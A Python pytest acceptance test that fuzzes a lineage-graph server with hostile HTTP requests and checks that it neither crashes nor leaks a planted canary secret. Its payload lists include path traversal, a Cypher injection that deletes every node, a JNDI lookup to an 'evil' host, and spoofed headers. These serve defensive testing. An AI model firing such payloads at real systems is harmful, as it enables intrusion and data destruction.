"""Hostile requests to every route of a real server: none fails it, and none gets a secret out."""

import http.client
import json
import random
import subprocess
import time
from collections import Counter
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any, NamedTuple
from urllib.parse import urlsplit

import psutil
import pytest

from lineagegraph.graph import Graph
from lineagegraph.neo4j_server import ServerAddress
from tests.acceptance.marquez.operations import Sent, list_operations
from tests.acceptance.processes import Commands, shared, until
from tests.events import run_event

CANARY = "c4nary-5b81e0"
OWN = f"{CANARY}-own"  # of the server, which gives it to no other process
SECONDS = 12
SOAK_SECONDS = 3_600
DEFINITION = """
import os
import lineagegraph as lg

own = {"DB_PASSWORD": os.environ["PLANTED_PASSWORD"]}
wait = lg.command("wait", ["sleep", "5"], environment=own)
lg.pipeline("p", tasks=[wait], trigger=lg.on.event("go"))
"""
TEXTS = [
    "",
    "\x00",
    "\x1b[2J\x1b]8;;http://evil\x07",
    "../../etc/passwd",
    "%2e%2e%2f",
    "%00",
    "%",
    "a" * 70_000,
    "'; MATCH (n) DETACH DELETE n //",
    "`n`",
    "$x",
    "{{7*7}}",
    "${jndi:ldap://evil/a}",
    "\ud83d\ude00",
    "ＮＵＬＬ",
    "0",
    "-1",
    "99999999999999999999",
    "1e999",
    "NaN",
    "null",
    "true",
    "2026-02-30T25:61:61Z",
    "0001-01-01T00:00:00Z",
    "9999-12-31T23:59:59Z",
    "P1Y",
    f"https://u:{CANARY}@evil/x?sig={CANARY}",
    f"jdbc:postgresql://u:{CANARY}@h/db?password={CANARY}",
]
VALUES: list[Any] = [None, True, 0, -1, 2**63, 1e308, [], {}, [[]], [None] * 1_000, *TEXTS]
HEADERS = [
    ("Accept", "text/csv;q=zzz, */*;q=-1"),
    ("Accept-Encoding", "br;q=1, gzip;q=x"),
    ("Authorization", f"Bearer {CANARY}"),
    ("Authorization", "Basic \xff\xfe"),
    ("Content-Encoding", "gzip"),
    ("Content-Length", "99999999999"),
    ("Content-Type", "application/json; charset=utf-7"),
    ("Content-Type", "text/plain"),
    ("Cookie", f"lineagegraph_session={CANARY}"),
    ("Expect", "100-continue"),
    ("Host", "evil.example"),
    ("If-None-Match", "*" * 5_000),
    ("Last-Event-ID", "\x01"),
    ("Origin", "https://evil.example"),
    ("Range", "bytes=0-0,0-0,0-0"),
    ("Transfer-Encoding", "chunked"),
    ("Upgrade", "websocket"),
    ("X-CSRF-Token", CANARY),
    ("X-Forwarded-For", "127.0.0.1"),
]


class Fuzzer:
    """Sends hostile requests from one thread until a time, and keeps what was answered wrongly."""

    def __init__(self, url: str, seed: int, until_: float) -> None:
        parts = urlsplit(url)
        assert parts.hostname
        assert parts.port
        self._place = parts.hostname, parts.port
        self._random = random.Random(seed)
        self._until = until_
        self._operations = list_operations()
        self.statuses: Counter[int] = Counter()
        self.faults: list[str] = []

    def run(self) -> "Fuzzer":
        """Send until it is time."""
        while time.monotonic() < self._until:
            operation = self._random.choice(self._operations)
            self._send(self._random.choice(list(operation.requests())), operation.method)
        return self

    def _send(self, sent: Sent, method: str) -> None:
        path, headers = (
            self._path(sent),
            [self._random.choice(HEADERS) for _ in range(self._random.randint(0, 2))],
        )
        body = self._body(sent.path, sent.body)
        connection = http.client.HTTPConnection(*self._place, timeout=20)
        try:
            connection.putrequest(
                method.upper(), path, skip_host=any(h == "Host" for h, _ in headers)
            )
            for name, value in {"Content-Type": "application/json", **dict(headers)}.items():
                connection.putheader(name, value.encode("latin-1", "replace"))
            if body is not None and not any(h == "Content-Length" for h, _ in headers):
                connection.putheader("Content-Length", str(len(body)))
            connection.endheaders(body)
            answer = connection.getresponse()
            self._judge(f"{method} {path[:200]} {headers}"[:400], answer)
        except (OSError, http.client.HTTPException, ValueError):
            self.statuses[0] += 1  # it closed the connection, or the client refuses to send that
        finally:
            connection.close()

    def _judge(self, what: str, answer: http.client.HTTPResponse) -> None:
        self.statuses[answer.status] += 1
        text = b""
        if "event-stream" not in (answer.getheader("Content-Type") or ""):
            text = answer.read(2_000_000)
        # On a busy machine it may be true that Neo4j is waited for.
        is_waiting = answer.status == 503 and b'"status":"waiting"' in text
        if answer.status >= 500 and not is_waiting:
            self.faults.append(f"{answer.status}: {what}: {text[:300]!r}")
        if CANARY.encode() in text:
            self.faults.append(f"the secret: {what}: {text[:300]!r}")

    def _path(self, sent: Sent) -> str:
        if self._random.random() < 0.5:
            return _quoted(sent.path, sent.query)
        parts = sent.path.split("/")
        at = self._random.randrange(3, max(4, len(parts)))
        if at < len(parts):
            parts[at] = self._text()
        query = {name: self._text() for name in sent.query} if self._random.random() < 0.7 else {}
        return _quoted("/".join(parts), query)

    def _text(self) -> str:
        return self._random.choice([one for one in TEXTS if CANARY not in one])

    def _body(self, path: str, example: Any) -> bytes | None:
        if example is None and self._random.random() < 0.8:
            return None
        chance = self._random.random()
        if chance < 0.1:
            return self._random.randbytes(self._random.randint(0, 2_000))
        if chance < 0.2:
            return b"[" * 50_000
        # Values of variables and parameters are data, which is answered as it was sent.
        values = VALUES if "/lineage" in path else [one for one in VALUES if CANARY not in str(one)]
        return json.dumps(self._mutated(example, values)).encode()

    def _mutated(self, value: Any, values: list[Any]) -> Any:
        if self._random.random() < 0.08:
            return self._random.choice(values)
        if isinstance(value, dict):
            # The parameters and the partition of a run are data, and stay as they are.
            plain = [one for one in values if CANARY not in str(one)]
            return {
                name: self._mutated(item, plain if name == "lineagegraph" else values)
                for name, item in value.items()
            }
        if isinstance(value, list):
            return [self._mutated(item, values) for item in value]
        return value


def _quoted(path: str, query: dict[str, Any]) -> str:
    asked = "&".join(f"{name}={value}" for name, value in query.items())
    text = f"{path}?{asked}" if asked else path
    return "".join(c if "!" <= c <= "~" else _escaped(c) for c in text)


def _escaped(letter: str) -> str:
    return "".join(f"%{byte:02X}" for byte in letter.encode("utf-8", "surrogatepass"))


class Up(NamedTuple):
    """A running server with its daemon."""

    process: "subprocess.Popen[str]"
    url: str
    home: Path


@pytest.fixture
def up(server: ServerAddress, graph: Graph, tmp_path: Path) -> Any:
    project, home = tmp_path / "project", tmp_path / "home"
    project.mkdir()
    (project / "lineagegraph.toml").touch()
    (project / "flows.py").write_text(DEFINITION)
    commands = Commands(project, shared(server, home))
    commands.environment |= {
        "PLANTED_PASSWORD": CANARY,
        "LINEAGEGRAPH_PASS_ENVIRONMENT": '["PLANTED_PASSWORD"]',
        "LINEAGEGRAPH_CONNECTION_LAKE": json.dumps({"url": "https://h", "token": OWN}),
        "LINEAGEGRAPH_BODY_SECONDS": "5",
    }
    done = commands("sync", ".")
    assert done.returncode == 0, done.stderr
    process = commands.start("up")
    # What is not read would stop the server once the pipe is full.
    output = ThreadPoolExecutor(1).submit(process.communicate)
    note = home / "up.json"
    until(lambda: note.exists() and json.loads(note.read_text()).get("http"), 60)
    until(lambda: is_ready(json.loads(note.read_text())["http"]), 120)
    yield Up(process, json.loads(note.read_text())["http"], home)
    process.terminate()
    output.result(timeout=60)


def fuzz(up: Up, graph: Graph, seconds: float) -> None:
    """Fuzz a server, and check that it and the secret stay in their places."""
    seed = random.randrange(2**32)
    end = time.monotonic() + seconds
    fuzzers = [Fuzzer(up.url, seed + number, end) for number in range(4)]
    shown = set[str]()
    with ThreadPoolExecutor(4) as threads:
        running = [threads.submit(one.run) for one in fuzzers]
        while time.monotonic() < end:
            shown |= processes_with(OWN, below=up.process.pid)
            time.sleep(0.5)
        for one in running:
            one.result()
    faults = [fault for one in fuzzers for fault in one.faults]
    statuses = sum((one.statuses for one in fuzzers), Counter[int]())
    assert faults == [], (seed, statuses, faults[:10])
    assert statuses[200] + statuses[201] > 0.02 * statuses.total(), (seed, statuses)
    assert up.process.poll() is None, "it runs on"
    # On a busy machine an event may have to be sent again.
    until(lambda: send_good_event(up.url) in (200, 201), 60)
    assert shown == set()
    assert having(graph, CANARY) == []
    private = up.home / "private"
    files = [path for path in up.home.rglob("*") if path.is_file() and private not in path.parents]
    assert [path for path in files if CANARY.encode() in path.read_bytes()] == []


def processes_with(secret: str, below: int) -> set[str]:
    """The commands of processes that show a secret in their arguments or environment."""
    found = set[str]()
    for process in [psutil.Process(below), *psutil.Process(below).children(recursive=True)]:
        try:
            command, shown = process.cmdline(), Path(f"/proc/{process.pid}/environ").read_bytes()
        except (psutil.Error, OSError):
            continue
        if secret in " ".join(command) or secret.encode() in shown:
            found.add(" ".join(command))
    return found


def is_ready(url: str) -> bool:
    parts = urlsplit(url)
    connection = http.client.HTTPConnection(f"{parts.hostname}", parts.port, timeout=30)
    connection.request("GET", "/ready")
    return connection.getresponse().status == 200


def send_good_event(url: str) -> int:
    body = json.dumps(run_event("good")).encode()
    parts = urlsplit(url)
    connection = http.client.HTTPConnection(f"{parts.hostname}", parts.port, timeout=30)
    connection.request("POST", "/api/v1/lineage", body, {"Content-Type": "application/json"})
    return connection.getresponse().status


def having(graph: Graph, text: str) -> list[str]:
    """The nodes and edges with a text in a property."""
    rows = graph.query("MATCH (n) RETURN labels(n) AS kind, properties(n) AS own")
    rows += graph.query("MATCH ()-[e]->() RETURN type(e) AS kind, properties(e) AS own")
    return [repr(row)[:500] for row in rows if text in repr(row)]


def test_hostile_requests_neither_fail_the_server_nor_get_a_secret(up: Up, graph: Graph) -> None:
    fuzz(up, graph, SECONDS)


@pytest.mark.soak
@pytest.mark.timeout(SOAK_SECONDS + 600)
def test_an_hour_of_hostile_requests_does_no_harm(up: Up, graph: Graph) -> None:
    fuzz(up, graph, SOAK_SECONDS)
